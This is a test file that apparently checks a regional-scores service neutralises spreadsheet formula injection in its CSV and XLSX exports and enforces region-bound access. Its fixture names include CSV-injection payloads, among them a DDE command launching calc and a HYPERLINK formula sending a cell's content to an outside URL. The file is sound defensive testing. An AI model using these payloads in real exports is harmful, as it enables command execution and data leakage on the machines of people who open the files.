import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readCsv } from '../export/read-csv.ts'
import { readBook } from './exported.ts'
import { created } from './write-examples.ts'
import { makeWriters, record, send, type Writers } from './write-support.ts'

let writers: Writers
beforeAll(async () => {
  writers = await makeWriters('exports_hostile')
})
afterAll(() => writers.close())

/** Names as somebody hostile to spreadsheets gives them. */
const names = [
  `=cmd|'/c calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+7 (3012) 21-00-00; отдел',
  '-Комитет "по делам", ;=1+1',
  `=HYPERLINK("https://example.org/?x="&A1;"Open")`,
  '<c r="A1"><f>1+1</f></c> & ]]>',
  '_x003D_1+1',
  `Комитет ${'😀'.repeat(90)}`,
]
const code = (index: number): string => `RU-Q${'ABCDEFGHIJ'.charAt(index)}`

beforeAll(async () => {
  for (const [index, name] of names.entries()) {
    const sending = { as: 'coordinator' as const, method: 'PUT' as const, json: { name } }
    const answer = await send(writers, { ...sending, path: `/v1/regions/${code(index)}` })
    expect([name, answer.status]).toEqual([name, 201])
  }
  const bodies = names.map((name, index) => ({ ...created, body: `hostile-${index}`, name }))
  await record(writers, 'coordinator', bodies)
})

const inert = (text: string): boolean => !/^[\s"]*[=+\-@]/.test(text)

describe('regions and bodies with hostile names', () => {
  it.each(['excel', 'plain'] as const)(
    'are inert in CSV, %s, and otherwise as they are',
    async (dialect) => {
      const path = `/v1/scores.csv?methodology=2023.2&dialect=${dialect}`
      const { text } = await send(writers, { as: 'analyst', method: 'GET', path, language: 'ru' })
      const [headings = [], ...rows] = readCsv(
        text.replace(/^\ufeff/, ''),
        dialect === 'excel' ? ';' : ',',
      )
      const at = headings.indexOf('Регион')
      const shown = new Map(
        rows.map((row) => [row[headings.indexOf('Код региона')], row[at] ?? '']),
      )
      for (const [index, name] of names.entries()) {
        const cell = shown.get(code(index)) ?? ''
        expect([cell, inert(cell)]).toEqual([cell, true])
        expect(cell.replaceAll("'", '')).toBe(name.replaceAll("'", ''))
      }
    },
  )

  it('are text in a workbook, to the last sign', async () => {
    const rows = await readBook(writers.service, '/v1/scores.xlsx?methodology=2023.2', 'ru')
    const shown = new Map(rows.map((row) => [row['Код региона'], row.Регион]))
    expect(names.map((_, index) => shown.get(code(index)))).toEqual(names)
  })

  it('are so in the breakdown and in the flat table, where bodies bear them', async () => {
    const day = 'methodology=2024.1&basis=reported&asOf=2026-11-22'
    const breakdown = await readBook(writers.service, `/v1/regions/RU-BU/score.xlsx?${day}`, 'ru')
    const items = await readBook(writers.service, `/v1/items.xlsx?${day}&region=RU-BU`, 'ru')
    for (const [index, name] of names.entries()) {
      const body = `hostile-${index}`
      expect(breakdown.find((row) => row.Код === body)?.Название).toBe(name)
      expect(items.filter((row) => row['Код органа'] === body).map((row) => row.Орган)).toEqual(
        Array.from({ length: 76 }, () => name),
      )
    }
  })

  it('stay out of the names of files', async () => {
    const path = '/v1/regions/RU-BU/bodies/hostile-0/score.xlsx?methodology=2023.2&basis=reported'
    const { headers } = await send(writers, { as: 'analyst', method: 'GET', path })
    expect(headers.get('Content-Disposition')).toBe(
      'attachment; filename="mera-score-RU-BU-hostile-0-2023.2-2026-11-22.xlsx"',
    )
  })
})

describe('a caller who is bound to a region', () => {
  const asEditor = (path: string) => send(writers, { as: 'editor', method: 'GET', path })

  it('gets its own region as a table and no other, and no ranking', async () => {
    const statuses = async (paths: readonly string[]) =>
      Promise.all(paths.map(async (path) => (await asEditor(path)).status))
    expect(
      await statuses([
        '/v1/regions/RU-BU/score.csv?methodology=2023.2',
        '/v1/regions/RU-AL/score.csv?methodology=2023.2',
        '/v1/scores.csv?methodology=2023.2',
        '/v1/comparisons.xlsx?base=2023.1&target=2023.2',
        '/v1/items.csv?methodology=2023.2&region=RU-AL',
      ]),
    ).toEqual([200, 403, 403, 403, 404])
  })

  it('finds in the flat table that region alone', async () => {
    const { text } = await asEditor('/v1/items.csv?methodology=2023.2&dialect=plain')
    const [, ...rows] = readCsv(text, ',')
    expect(new Set(rows.map(([region]) => region))).toEqual(new Set(['RU-BU']))
  })
})
